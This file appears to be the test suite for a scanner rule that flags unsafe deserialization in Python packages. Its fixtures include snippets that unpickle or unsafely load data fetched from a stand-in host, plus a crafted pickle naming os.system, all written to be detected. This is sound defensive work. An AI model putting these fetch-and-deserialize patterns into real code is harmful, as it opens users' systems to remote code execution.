import { unsafeDeserialization } from '../../src/rules/unsafe-deserialization.js';
import { wheel } from '../support/wheel.js';
import { behaviour, delta } from './deltas.js';
import { ruleTest } from './harness.js';
import { releaseTest } from './pipeline.js';

const init = (source: string) => wheel({ 'demo/__init__.py': source });
const inFunction = (source: string) => `def go():\n${source.replaceAll(/^(?=.)/gmu, '    ')}`;
const FETCHED = 'import pickle, requests\npickle.loads(requests.get("https://a.invalid/x").content)\n';

const NETWORK: readonly { name: string; source: string }[] = [
  { name: 'pickle', source: FETCHED },
  {
    name: 'a file that was fetched',
    source:
      'import pickle, urllib.request\nurllib.request.urlretrieve("https://a.invalid/m", "/tmp/m.pkl")\nwith open("/tmp/m.pkl", "rb") as f:\n    pickle.load(f)\n',
  },
  { name: 'dill', source: 'import dill, requests\ndill.loads(requests.get("https://a.invalid/x").content)\n' },
  {
    name: 'a socket',
    source: 'import pickle, socket\ns = socket.create_connection(("a.invalid", 1))\npickle.loads(s.recv(1024))\n',
  },
  {
    name: 'joblib',
    source:
      'import io, joblib, urllib.request\njoblib.load(io.BytesIO(urllib.request.urlopen("https://a.invalid/x").read()))\n',
  },
  {
    name: 'unsafe YAML',
    source: 'import requests, yaml\nyaml.load(requests.get("https://a.invalid/x").text, Loader=yaml.Loader)\n',
  },
  {
    name: 'torch',
    source:
      'import torch, urllib.request\nurllib.request.urlretrieve("https://a.invalid/m", "model.pt")\ntorch.load("model.pt", weights_only=False)\n',
  },
  {
    name: 'Unpickler',
    source: 'import pickle, urllib.request\npickle.Unpickler(urllib.request.urlopen("https://a.invalid/x")).load()\n',
  },
  {
    name: 'jsonpickle',
    source: 'import jsonpickle, requests\njsonpickle.decode(requests.get("https://a.invalid/x").text)\n',
  },
];

releaseTest(unsafeDeserialization, {
  flags: [
    ...NETWORK.map(({ name, source }) => ({
      name: `${name}, from the network, on import`,
      given: { base: wheel(), head: init(source) },
      level: 'block' as const,
    })),
    { name: 'from the network, when called', given: { base: wheel(), head: init(inFunction(FETCHED)) }, level: 'warn' },
    { name: 'from the network, in a first release', given: { head: init(FETCHED) }, level: 'warn' },
    {
      name: 'a pickle in the source that names os.system',
      given: {
        base: wheel(),
        head: init(inFunction('import pickle\npickle.loads(b"cos\\nsystem\\n(S\'echo\'\\ntR.")\n')),
      },
      level: 'block',
      says: 'pickle:os.system',
    },
    {
      name: 'a pickle that is decoded first',
      given: { base: wheel(), head: init('import base64, pickle\npickle.loads(base64.b64decode(DATA))\n') },
      level: 'warn',
    },
  ],
  allows: [
    {
      name: 'a local file',
      given: { base: wheel(), head: init('import pickle\nwith open("/tmp/c", "rb") as f:\n    pickle.load(f)\n') },
      atMost: 'note',
    },
    {
      name: 'safe YAML',
      given: {
        base: wheel(),
        head: init('import requests, yaml\nyaml.safe_load(requests.get("https://a.invalid/x").text)\n'),
      },
    },
    {
      name: 'YAML with the safe loader',
      given: {
        base: wheel(),
        head: init(
          'import requests, yaml\nyaml.load(requests.get("https://a.invalid/x").text, Loader=yaml.SafeLoader)\n',
        ),
      },
    },
    {
      name: 'weights only',
      given: {
        base: wheel(),
        head: init(
          'import torch, urllib.request\nurllib.request.urlretrieve("https://a.invalid/m", "m.pt")\ntorch.load("m.pt", weights_only=True)\n',
        ),
      },
    },
    {
      name: 'arrays without objects',
      given: {
        base: wheel(),
        head: init('import io, numpy, requests\nnumpy.load(io.BytesIO(requests.get("https://a.invalid/x").content))\n'),
      },
    },
    {
      name: 'JSON',
      given: {
        base: wheel(),
        head: init('import json, requests\njson.loads(requests.get("https://a.invalid/x").text)\n'),
      },
    },
    {
      name: 'a harmless pickle in the source',
      given: { base: wheel(), head: init('import pickle\npickle.loads(b"\\x80\\x04K\\x01.")\n') },
      atMost: 'note',
    },
    { name: 'what the base did too', given: { base: init(FETCHED), head: init(`V = 2\n${FETCHED}`) } },
    { name: 'in tests', given: { base: wheel(), head: wheel({ 'tests/test_demo.py': inFunction(FETCHED) }) } },
  ],
});

const named = (when: 'import' | 'call' | 'test', callee = 'pickle:os.system') => ({
  delta: delta({ behaviours: [behaviour('unpickle', { callee, when: [when] })] }),
});

ruleTest(unsafeDeserialization, {
  flags: [
    { name: 'a pickle file that names os.system', given: named('call'), level: 'block', says: 'reaches the sink' },
    { name: 'such a file that is loaded on import', given: named('import'), level: 'block' },
    { name: 'a pickle that carries a function', given: named('call', 'pickle:types.CodeType'), level: 'warn' },
    { name: 'such a file in tests', given: named('test'), level: 'note' },
  ],
  allows: [
    { name: 'no new one', given: { delta: delta({}) } },
    { name: 'a function that is carried, in tests', given: named('test', 'pickle:types.CodeType') },
  ],
});
